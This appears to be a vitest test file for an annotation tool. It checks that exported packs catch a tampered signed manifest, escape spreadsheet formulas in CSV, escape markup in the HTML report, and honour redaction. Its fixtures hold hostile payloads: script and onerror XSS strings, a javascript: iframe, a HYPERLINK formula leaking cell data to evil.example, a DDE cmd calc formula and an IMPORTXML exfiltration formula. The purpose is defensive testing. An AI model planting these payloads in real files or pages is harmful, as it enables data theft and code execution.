/**
 * What a pack must never let through: a manifest changed after signing, a spreadsheet formula from a
 * document, markup from a document or a note in the HTML report.
 */
import fs from 'node:fs';
import path from 'node:path';
import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { caller, tempDir } from '../core/helpers.ts';
import { emptyProject, exportBytes, files, jobId, text } from './helpers.ts';

async function hostileProject() {
  const core = emptyProject('hostile');
  const file = path.join(tempDir(), 'hostile.txt');
  const body = [
    'Officials said <script>alert("pwned")</script> the border was closed.',
    '',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click") according to a spokesman.',
    '',
    'A witness said <img src=x onerror=alert(1)> and </style><b>bold</b> happened.',
  ].join('\n');
  fs.writeFileSync(file, body);
  await core.importPaths([file]);
  const call = caller(core);
  const [doc] = (await call('documents:list', {})).items;
  await call('documents:update', { id: doc!.id, revision: doc!.revision, patch: { title: '<script>document.title="x"</script> & </title>' } });
  const mark = (exact: string, kind: 'claim' | 'denial' = 'claim', note: string | null = null) => {
    const start = body.indexOf(exact);
    return call('spans:create', { documentId: doc!.id, kind, start, end: start + exact.length, exact, note });
  };
  const a = await mark('<script>alert("pwned")</script> the border was closed', 'claim', '</style><script>steal()</script>');
  const b = await mark('=HYPERLINK("http://evil.example/?leak="&A1,"click")');
  const c = await mark('<img src=x onerror=alert(1)> and </style><b>bold</b> happened', 'denial');
  const source = await call('sources:create', { name: '@SUM(1+1)*cmd|" /C calc"!A0', type: 'witness or resident' });
  await call('attributions:create', { claimId: b.id, sourceId: source.id, channel: '+IMPORTXML(CONCAT("http://x/",A1))' });
  await call('claims:link', { fromId: c.id, toId: a.id, relation: 'denies', note: '<iframe src=javascript:alert(1)>' });
  return { core, a, b, c };
}

describe('signatures', { timeout: 60_000 }, () => {
  it('a signed pack verifies and names the signer\'s key; the same key signs the next export', async () => {
    const { core } = await hostileProject();
    const first = await caller(core)('packs:export', { jobId: jobId(), sign: true });
    expect(first.fingerprint).toMatch(/^([0-9a-f]{4} ){15}[0-9a-f]{4}$/);
    const report = await caller(core)('packs:verify', { data: new Uint8Array(first.data!) });
    expect(report).toMatchObject({ ok: true, signature: { state: 'valid', fingerprint: first.fingerprint } });
    const second = await caller(core)('packs:export', { jobId: jobId(), sign: true });
    expect(second.fingerprint).toBe(first.fingerprint);
    core.close();
  });

  it('a manifest changed after signing is caught; an unsigned pack says hashes prove integrity only', async () => {
    const { core } = await hostileProject();
    const signed = files(await exportBytes(core, { sign: true }));
    const manifest = JSON.parse(text(signed['manifest.json'])) as { creator: { name: string } };
    manifest.creator.name = 'Someone else';
    const tampered = zipSync({ ...signed, 'manifest.json': new TextEncoder().encode(`${JSON.stringify(manifest, null, 2)}\n`) });
    const report = await caller(core)('packs:verify', { data: tampered });
    expect(report.ok).toBe(false);
    expect(report.signature.state).toBe('invalid');
    expect(report.problems.map((p) => p.code)).toEqual(['BAD_SIGNATURE']);
    const unsigned = await caller(core)('packs:verify', { data: await exportBytes(core) });
    expect(unsigned.signature).toEqual({ state: 'unsigned', fingerprint: null, message: 'Not signed: the hashes prove integrity only, not who made it.' });
    core.close();
  });
});

describe('CSV for spreadsheets', { timeout: 60_000 }, () => {
  it('escapes cells that a spreadsheet would run as formulas, with a BOM and RFC 4180 quoting', async () => {
    const { core } = await hostileProject();
    const f = files(await exportBytes(core));
    const claims = text(f['claims.csv']);
    expect(claims.startsWith('\ufeffclaim_id,')).toBe(true);
    expect(claims).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    const attributions = text(f['attributions.csv']);
    expect(attributions).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(attributions).toContain(`"'+IMPORTXML(CONCAT(""http://x/"",A1))"`);
    for (const line of [...claims.split('\r\n'), ...attributions.split('\r\n')]) {
      for (const cell of line.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g) ?? []) expect(cell.replace(/^,/, '').replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
    core.close();
  });
});

describe('report.html', { timeout: 60_000 }, () => {
  it('escapes everything from documents and annotations and runs nothing', async () => {
    const { core } = await hostileProject();
    const html = text(files(await exportBytes(core))['report.html']);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
    // The only tags are ours: no script, image, iframe or stray style from the material.
    expect(html).not.toMatch(/<script|<img|<iframe|<b>/i);
    expect((html.match(/<\/style>/g) ?? []).length).toBe(1);
    expect(html).toContain('&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; and &lt;/style&gt;&lt;b&gt;bold&lt;/b&gt; happened');
    expect(html).toContain('&lt;iframe src=javascript:alert(1)&gt;');
    expect(html).toContain('&lt;script&gt;document.title=&quot;x&quot;&lt;/script&gt; &amp; &lt;/title&gt;');
    // The dispute is shown side by side and the sourcing table has the attribution.
    expect(html).toMatch(/<div class="pair">[\s\S]*denied by[\s\S]*<\/div>/);
    expect(html).toContain('@SUM(1+1)*cmd|&quot; /C calc&quot;!A0');
    core.close();
  });
});

describe('redaction', { timeout: 60_000 }, () => {
  it('leaves out notes, annotators or chosen documents, and the manifest says so', async () => {
    const { core, a } = await hostileProject();
    const [doc] = (await caller(core)('documents:list', {})).items;
    const other = path.join(tempDir(), 'other.txt');
    fs.writeFileSync(other, 'A second report that stays in the pack.\n');
    await core.importPaths([other]);
    const pack = files(await exportBytes(core, { redact: { notes: true, annotators: true, documents: [] } }));
    const manifest = JSON.parse(text(pack['manifest.json'])) as { creator: unknown; redacted: unknown };
    expect(manifest.creator).toBeNull();
    expect(manifest.redacted).toEqual({ notes: true, annotators: true, documents: 0 });
    const jsonld = text(pack['annotations.jsonld']);
    expect(jsonld).not.toContain('steal()');
    expect(jsonld).not.toContain('iframe');
    expect(jsonld).not.toContain('"creator"');
    expect(jsonld).toContain(`urn:uuid:${a.id}`);
    expect(text(pack['analysts.json'])).toBe('{\n  "analysts": []\n}\n');
    expect(Object.values(pack).map(text).join('\n')).not.toContain('Reference analyst');

    const without = files(await exportBytes(core, { redact: { documents: [doc!.id] } }));
    expect(Object.keys(without).filter((n) => n.includes(doc!.id))).toEqual([]);
    expect(text(without['annotations.jsonld'])).not.toContain(doc!.id);
    expect((JSON.parse(text(without['manifest.json'])) as { redacted: { documents: number } }).redacted.documents).toBe(1);
    core.close();
  });
});
